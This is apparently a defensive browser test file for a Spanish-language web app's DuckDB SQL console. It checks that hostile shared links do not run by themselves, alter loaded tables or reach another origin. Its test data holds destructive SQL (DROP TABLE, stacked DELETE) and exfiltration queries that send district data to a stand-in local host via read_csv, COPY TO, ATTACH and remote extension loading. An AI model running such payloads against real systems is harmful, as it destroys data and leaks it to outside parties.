import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { openSession, type Session } from './browser';

/**
 * Shared links to the SQL console (/explorar?consulta=…) written by someone
 * hostile: they must neither run by themselves, nor change the loaded data
 * when run, nor send anything to another origin. A listener on another local
 * port stands for that origin and counts what reaches it.
 */

const base = () => inject('baseUrl');

/** Rows of a demo CSV file, counted here from the file itself. */
function demoRows(file: string): number {
	return Papa.parse(readFileSync(`data/${file}`, 'utf8').trim(), { header: true }).data.length;
}

async function openLink(session: Session, sql: string) {
	const { page } = session;
	await page.goto(`${base()}/explorar?consulta=${encodeURIComponent(sql)}`);
	// the engine is up and has listed the loaded tables
	await page.waitForSelector('[data-testid="exp-tables"] .tname', { timeout: 90_000 });
	expect(await page.getByTestId('exp-sql').inputValue()).toBe(sql);
}

/** Presses "Ejecutar" and waits for the run to end; returns the error shown, if any. */
async function run(session: Session): Promise<string | null> {
	const { page } = session;
	await page.getByTestId('exp-run').click();
	await page.waitForFunction(
		() =>
			!document.querySelector('[data-testid="exp-status"]')?.textContent?.includes('Ejecutando'),
		null,
		{ timeout: 30_000 }
	);
	const error = page.getByTestId('exp-error');
	return (await error.count()) > 0 ? (await error.textContent())!.trim() : null;
}

async function countRows(session: Session, table: string): Promise<number> {
	const { page } = session;
	await page.getByTestId('exp-sql').fill(`SELECT count(*)::INTEGER AS n FROM ${table}`);
	expect(await run(session)).toBeNull();
	const cell = await page
		.locator('[data-testid="exp-result-table"] tbody tr td')
		.nth(1)
		.textContent();
	return Number(cell!.replace(/\D/g, ''));
}

describe('a shared link to the SQL console, in Chromium', () => {
	let session: Session;
	let listener: Server;
	let other: string;
	const received: string[] = [];

	beforeAll(async () => {
		listener = createServer((req, res) => {
			received.push(`${req.method} ${req.url}`);
			res.setHeader('Access-Control-Allow-Origin', '*');
			res.end('a\n1\n');
		});
		await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
		other = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
		session = await openSession();
	});

	afterAll(async () => {
		await session?.close();
		listener?.close();
	});

	it('fills the console without running it, and a write it runs changes nothing', async () => {
		const activities = demoRows('activities.csv');
		const districts = demoRows('districts.csv');
		const assessments = demoRows('assessments.csv');
		const writes = [
			'EXPLAIN ANALYZE DELETE FROM activities',
			"WITH x AS (SELECT 1) DELETE FROM districts WHERE ubigeo <> ''",
			'EXPLAIN ANALYZE INSERT INTO assessments SELECT * FROM assessments',
			'DROP TABLE activities',
			'COMMIT; DELETE FROM activities'
		];
		for (const sql of writes) {
			await openLink(session, sql);
			// nothing ran: no result, no error, a note saying so
			await session.page.getByTestId('exp-from-link').waitFor();
			expect(await session.page.getByTestId('exp-result').count()).toBe(0);
			expect(await session.page.getByTestId('exp-error').count()).toBe(0);
			// run on purpose, the engine refuses it
			const error = await run(session);
			expect(error, sql).toMatch(/La consola solo lee los datos cargados|una instrucción a la vez/);
		}
		expect(await countRows(session, 'activities')).toBe(activities);
		expect(await countRows(session, 'districts')).toBe(districts);
		expect(await countRows(session, 'assessments')).toBe(assessments);
		// the other screens read the same tables: the observatory still counts every district
		await session.page.goto(`${base()}/`);
		await session.page.waitForSelector('[data-testid="heatmap"] .cell', { timeout: 60_000 });
		expect(session.errors).toEqual([]);
	});

	it('sends nothing to another origin, clicked or not', async () => {
		const leaks = [
			`SELECT * FROM read_csv('${other}/?d=' || 'Callao')`,
			`SET VARIABLE d = (SELECT string_agg(name, ',') FROM districts); SELECT * FROM read_csv('${other}/?d=' || getvariable('d'))`,
			`SET custom_extension_repository = '${other}'; INSTALL httpfs; LOAD httpfs`,
			`LOAD '${other}/httpfs.duckdb_extension.wasm'`,
			`ATTACH '${other}/x.duckdb' AS x`,
			`COPY (SELECT name FROM districts) TO '${other}/out.csv'`
		];
		for (const sql of leaks) {
			await openLink(session, sql);
			const error = await run(session);
			expect(error, sql).toMatch(/La consola no abre archivos ni direcciones de internet/);
		}
		// In duckdb-wasm INSTALL only records the wish (it fetches on LOAD, which is refused):
		// it may succeed, but nothing may leave.
		await openLink(session, `INSTALL httpfs FROM '${other}'`);
		await run(session);
		await openLink(session, 'LOAD httpfs');
		expect(await run(session)).toMatch(/La consola no abre archivos/);
		// anything the engine had sent would have arrived long ago: the listener is on this machine
		await session.page.waitForTimeout(300);
		expect(received).toEqual([]);
		expect(session.foreignRequests).toEqual([]);
	});
});
